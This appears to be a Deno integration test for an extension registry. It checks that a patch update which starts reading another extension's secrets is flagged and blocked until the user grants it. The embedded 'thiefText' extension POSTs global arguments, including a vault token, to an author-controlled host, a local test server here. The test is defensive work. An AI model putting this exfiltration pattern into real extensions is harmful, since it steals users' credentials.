import assert from "node:assert/strict";
import { SMALL_ZOD } from "@svc/fakes/zod";
import { signUp } from "./process/account.ts";
import { setScene } from "./process/scene.ts";
import { createPerson, type Person } from "./process/svc.ts";

const TOKEN = "t0ken-of-the-vault-4711";

/** A type with a secret argument and a method that changes something. */
function typeText(type: string): string {
  return `${SMALL_ZOD}
export const model = {
  type: "${type}",
  version: "2026.11.20.1",
  globalArguments: z.object({ token: z.string().meta({ sensitive: true }).optional() }),
  resources: { state: { description: "State", lifetime: "infinite", garbageCollection: 3,
    schema: z.object({ text: z.string() }) } },
  methods: { set: { description: "Sets it", arguments: z.object({}),
    execute: async (_args: unknown, context: any): Promise<void> => {
      await context.writeResource("state", "main", { text: "set" });
    } } },
};
`;
}

/** Sends what a check is given to a host of its author's. */
function thiefText(host: string): string {
  return `export const extension = {
  type: "@ada/tool",
  methods: [],
  checks: [{ fine: { description: "Is all fine?", execute: async (context: any) => {
    await fetch("http://${host}/", { method: "POST", body: JSON.stringify(context.globalArgs) });
    return { pass: true };
  } } }],
};
`;
}

async function push(
  person: Person,
  name: string,
  version: string,
  { host, files }: { host?: string; files: Record<string, string> },
): Promise<void> {
  const folder = `${person.home}/${name}-${version}`;
  await Deno.mkdir(folder, { recursive: true });
  const models = Object.keys(files).map((file) => `  - ${file}\n`).join("");
  const net = host === undefined ? "{}" : `\n  net: ["${host}"]`;
  const manifest = `manifestVersion: 1
name: "${name}"
version: ${version}
description: Does something.
paths: { base: manifest }
models:
${models}permissions: ${net}
`;
  for (const [file, text] of Object.entries({ ...files, "manifest.yaml": manifest })) {
    await Deno.writeTextFile(`${folder}/${file}`, text);
  }
  await person.ok(["extension", "push", `${folder}/manifest.yaml`, "--no-check", "--yes"]);
}

Deno.test("a patch version that begins to look at another's secrets gets them when its user says so", async (test) => {
  const got: string[] = [];
  await using thief = Deno.serve(
    { port: 0, hostname: "127.0.0.1", onListen: () => {} },
    async (request) => {
      got.push(await request.text());
      return new Response();
    },
  );
  const host = `127.0.0.1:${thief.addr.port}`;
  await using scene = await setScene();
  await using mallory = await createPerson(scene.gate.url, scene.outside.env);
  const { password } = await signUp(scene.gate.url, "mallory");
  await mallory.ok(["auth", "login", "--username", "mallory"], { stdin: `${password}\n` });
  await using user = await createPerson(scene.gate.url, scene.outside.env);
  const name = "@mallory/helper";
  const helper = { "helper.ts": typeText(name) };

  await push(scene.person, "@ada/tool", "2026.11.20.1", {
    files: { "tool.ts": typeText("@ada/tool") },
  });
  await push(mallory, name, "2026.11.20.1", { host, files: helper });
  await user.ok(["init"]);
  await user.ok(["extension", "pull", "@ada/tool"]);
  await user.ok(["extension", "pull", name, "--allow", `net:${host}`]);
  await user.ok(["vault", "create", "local_encryption", "main"]);
  await user.ok(["vault", "put", "main", "TOKEN"], { stdin: TOKEN });
  const token = "token=${{ vault.get('main', 'TOKEN') }}";
  await user.ok(["behavior", "create", "@ada/tool", "tool", "--global-arg", token]);
  const run = () => user.ok(["behavior", "run", "tool", "set"]);
  await run();

  await push(mallory, name, "2026.11.20.2", {
    host,
    files: { ...helper, "thief.ts": thiefText(host) },
  });
  const permission = "graft:@ada/tool";
  const words = /graft @ada\/tool \(.*sees the arguments, secrets and data of its behaviors/;

  await test.step("the registry and a dry run of the update name it beforehand", async () => {
    assert.match(await user.ok(["extension", "info", name]), words);
    const info = JSON.parse(await user.ok(["extension", "info", name, "--json"]));
    assert.deepEqual(info.contentMetadata.permissions, { net: [host], graft: ["@ada/tool"] });
    const page = await fetch(info.url);
    assert.match(
      await page.text(),
      /@ada\/tool \([^)]*sees the arguments, secrets and data of its behaviors/,
    );
    const { extensions } = JSON.parse(
      await user.ok(["extension", "update", "--dry-run", "--json"]),
    );
    assert.deepEqual(extensions[1].permissionsAdded, [permission]);
  });

  await test.step("the update asks for it, and without a yes the version is not installed", async () => {
    const { code, stdout, stderr } = await user.svc(["extension", "update"]);
    assert.equal(code, 1);
    assert.match(stdout + stderr, words);
    await run();
    assert.deepEqual(got, []);
  });

  await test.step("installed without that yes, it gets nothing, and each run says so", async () => {
    await user.ok(["extension", "pull", name, "--allow", `net:${host}`]);
    const { code, stderr } = await user.svc(["behavior", "run", "tool", "set"]);
    assert.equal(code, 0, stderr);
    assert.match(stderr, /@mallory\/helper adds to @ada\/tool, but you have not granted that/);
    assert.deepEqual(got, []);
    const { extensions } = JSON.parse(await user.ok(["extension", "permissions", name, "--json"]));
    const states = extensions[0].permissions.map((one: { permission: string; state: string }) =>
      `${one.permission} ${one.state}`
    );
    assert.deepEqual(states, [`net:${host} granted`, `${permission} refused`]);
  });

  await test.step("granted, it gets them", async () => {
    await user.ok(["extension", "grant", name, permission]);
    await run();
    assert.deepEqual(got, [JSON.stringify({ token: TOKEN })]);
  });
});
